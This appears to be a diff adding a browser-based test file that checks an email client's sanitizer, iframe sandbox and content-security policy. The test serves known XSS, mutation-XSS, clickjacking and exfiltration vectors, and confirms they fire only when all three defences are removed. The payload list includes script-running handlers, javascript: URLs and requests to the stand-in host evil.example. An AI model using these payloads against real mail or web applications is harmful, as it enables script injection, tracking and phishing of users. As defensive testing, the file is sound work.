@@ -1,0 +1,215 @@
+"""The frame of message HTML in a real browser: sanitizer, sandbox and policy, each taken away in turn.
+
+Documents are served with the headers and attributes of the real ones, many to a page.
+The vectors are our own and, where it lies beside the checkout, a collection's.
+"""
+
+import json
+import os
+import re
+import threading
+from html import escape
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+
+import pytest
+
+from inboxes.middleware import HEADERS
+from inboxes.rendering import DOCUMENT, FRAME_HEADERS, LIGHT, SANDBOX, safe_document
+
+CORPUS = os.environ.get("TEMPMAIL_CORPUS")
+FRAMES_PER_PAGE = 75
+WALLS = ("sanitizer", "sandbox", "policy")
+# Each would be seen: it runs a script, fetches, or goes elsewhere.
+OWN_VECTORS = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<details open ontoggle=alert(1)>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<iframe src='javascript:alert(1)'></iframe>",
+    "<iframe src='data:text/html,<script>alert(1)</script>'></iframe>",
+    "<object data='data:text/html,<script>alert(1)</script>'></object>",
+    "<embed src='//evil.example/x.swf'>",
+    "<a href='javascript:alert(1)'>x</a>",
+    "<a href='java&#09;script:alert(1)' target=_top>x</a>",
+    "<form action='https://evil.example/'><input name=a><button>go</button></form>",
+    "<form action='javascript:alert(1)'><button>go</button></form>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
+    "<base href='https://evil.example/'><img src=x.png>",
+    "<link rel=stylesheet href='https://evil.example/x.css'><link rel=prefetch href='https://evil.example/'>",
+    "<link rel=dns-prefetch href='//evil.example'><link rel=preconnect href='https://evil.example'>",
+    "<img src='https://evil.example/pixel.gif'><img srcset='https://evil.example/2 2x'>",
+    "<picture><source srcset='https://evil.example/3'><img></picture>",
+    "<video src='https://evil.example/v' poster='https://evil.example/p' autoplay></video>",
+    "<audio src='https://evil.example/a' autoplay></audio><track src='https://evil.example/t'>",
+    "<table background='https://evil.example/b'><tr><td background='https://evil.example/c'>x</table>",
+    "<p style='background:url(https://evil.example/)'>x",
+    "<ul style='list-style-image:url(https://evil.example/)'><li>x</ul>",
+    "<p style='content:url(https://evil.example/);cursor:url(https://evil.example/),auto'>x",
+    "<style>@import 'https://evil.example/'; @font-face{font-family:f;src:url(https://evil.example/f)} p{font-family:f}"
+    "body{background:image-set('https://evil.example/i' 1x)}</style><p>x",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
+    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
+    "<body onload=alert(1)><body onpageshow=alert(1)>",
+    "<input autofocus onfocus=alert(1)><select autofocus onfocus=alert(1)>",
+    "<marquee onstart=alert(1)>x</marquee>",
+    "<script>parent.document.title='taken'; top.location='https://evil.example/'; open('https://evil.example/')</script>",
+    "<img src=x onerror=\"parent.document.body.dataset.taken='yes'\">",
+]
+# In a message the pages' events come from the reader: each element gets them.
+TOUCH = """() => {
+  for (const frame of document.querySelectorAll("iframe")) {
+    const inside = frame.contentDocument;
+    for (const element of inside?.body?.querySelectorAll("*") ?? []) {
+      for (const type of ["mouseover", "mouseenter", "focus"]) element.dispatchEvent(new Event(type, {bubbles: true}));
+      const link = element.closest("a");
+      // A link that leads out is meant to.
+      if (!link || !/^(https?:|mailto:|tel:)/.test(link.protocol)) element.click?.();
+      if (element.localName === "form") element.requestSubmit();
+    }
+  }
+}"""
+
+
+def vectors():
+    found = list(OWN_VECTORS)
+    if CORPUS:
+        files = sorted(Path(CORPUS, "html").glob("*.json"))
+        found += [vector for file in files for vector in json.loads(file.read_text())["vectors"]]
+    return found
+
+
+@pytest.fixture
+def site():
+    """A server of (headers, body) by path; `site.url` is its origin."""
+    pages = {}
+
+    class Answer(BaseHTTPRequestHandler):
+        def do_GET(self):
+            headers, body = pages.get(self.path, ({}, ""))
+            self.send_response(200 if self.path in pages else 404)
+            for name, value in {"Content-Type": "text/html; charset=utf-8", **headers}.items():
+                self.send_header(name, value)
+            self.end_headers()
+            self.wfile.write(body.encode(errors="replace"))
+
+        def log_message(self, *_):
+            pass
+
+    server = ThreadingHTTPServer(("127.0.0.1", 0), Answer)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    server.pages, server.url = pages, f"http://127.0.0.1:{server.server_port}"
+    yield server
+    server.shutdown()
+    server.server_close()
+
+
+def put_frames(site, vectors, without=()):
+    """Serve pages with a frame for each vector; return their paths."""
+    policy = FRAME_HEADERS["Content-Security-Policy"]
+    frame_headers, page_headers = dict(FRAME_HEADERS), dict(HEADERS)
+    attributes = f'sandbox="{SANDBOX}" referrerpolicy="no-referrer"'
+    if "sandbox" in without:
+        attributes = ""
+        frame_headers["Content-Security-Policy"] = re.sub(r"sandbox [^;]*; ", "", policy)
+    if "policy" in without:
+        del frame_headers["Content-Security-Policy"], page_headers["Content-Security-Policy"]
+    paths = []
+    for start in range(0, len(vectors), FRAMES_PER_PAGE):
+        frames = []
+        for number, vector in enumerate(vectors[start : start + FRAMES_PER_PAGE], start):
+            document = DOCUMENT.format(body=vector, scheme=LIGHT) if "sanitizer" in without else safe_document(vector)
+            site.pages[f"/html/{number}"] = (frame_headers, document)
+            frames.append(f'<iframe src="{escape(f"/html/{number}")}" {attributes}></iframe>')
+        paths.append(f"/page/{start}")
+        site.pages[paths[-1]] = (page_headers, f"<!doctype html><title>page</title>{''.join(frames)}")
+    return paths
+
+
+@pytest.fixture
+def watched(browser, site):
+    """Open pages and return what attacks did there: dialogs, requests to elsewhere, windows, changed pages."""
+    context = browser.new_context(base_url=site.url, service_workers="block")
+    seen = []
+
+    def route(route):
+        if route.request.url.startswith(site.url + "/"):
+            return route.continue_()
+        seen.append(f"request: {route.request.url}")
+        return route.abort()
+
+    def dialog(dialog):
+        seen.append(f"dialog: {dialog.message}")
+        dialog.dismiss()
+
+    context.route("**/*", route)
+    context.on("dialog", dialog)
+
+    def open_all(paths):
+        for path in paths:
+            page = context.new_page()
+            page.goto(path)
+            page.evaluate(TOUCH)
+            page.wait_for_load_state("networkidle")
+            if page.url != site.url + path or page.title() != "page" or page.evaluate("document.body.dataset.taken"):
+                seen.append(f"page taken: {page.url} {page.title()}")
+            seen.extend(f"window: {other.url}" for other in context.pages if other != page)
+            for other in context.pages:
+                other.close()
+        return seen
+
+    yield open_all
+    context.close()
+
+
+@pytest.mark.parametrize("wall", WALLS)
+def test_n5_without_one_wall_the_others_stop_every_vector(watched, site, wall):
+    assert watched(put_frames(site, vectors(), without=[wall])) == []
+
+
+@pytest.mark.skipif(not CORPUS, reason="TEMPMAIL_CORPUS does not name the folder of vectors")
+def test_the_collection_of_vectors_is_part_of_it():
+    assert len(vectors()) > len(OWN_VECTORS) + 400
+
+
+def test_without_all_walls_the_same_vectors_are_seen_to_attack(watched, site):
+    """What the tests above call nothing, they would see."""
+    seen = watched(put_frames(site, OWN_VECTORS[:-2], without=WALLS))
+
+    assert len([event for event in seen if event.startswith("dialog")]) >= 10
+    for what in ("pixel.gif", "x.css", "/b", "evil.example/v"):
+        assert any(event.startswith("request") and what in event for event in seen), what
+    assert any("page taken" in event for event in watched(put_frames(site, OWN_VECTORS[-1:], without=WALLS)))
+
+
+@pytest.mark.parametrize("wall", WALLS[1:])
+def test_no_script_runs_behind_either_wall_alone(watched, site, wall):
+    """Sandbox and policy each stop every script without the sanitizer and without each other."""
+    others = [other for other in WALLS if other != wall]
+
+    seen = watched(put_frames(site, OWN_VECTORS, without=others))
+
+    assert [event for event in seen if not event.startswith("request")] == []
+
+
+@pytest.mark.parametrize("without", [[], ["sanitizer"]], ids=["sanitized", "not sanitized"])
+def test_n4_message_covers_nothing_outside_its_frame(browser, site, without):
+    overlay = (
+        '<a href="https://evil.example/" style="position:fixed;top:-900px;left:-900px;width:9000px;height:9000px;'
+        'z-index:2147483647;margin:-900px;transform:scale(9);background:red">Delete</a><dialog open>x</dialog>'
+    )
+    (path,) = put_frames(site, [overlay], without)
+    headers, html = site.pages[path]
+    site.pages[path] = (headers, html.replace("<iframe", "<button>Delete</button><p></p><iframe"))
+    page = browser.new_page()
+
+    page.goto(site.url + path)
+
+    button = page.get_by_role("button", name="Delete")
+    button.click(timeout=5000)  # refuses where something else would get the click
+    hit = "e => { const r = e.getBoundingClientRect(); return document.elementFromPoint(r.x + 5, r.y + 5) === e }"
+    assert button.evaluate(hit)
+    page.close()
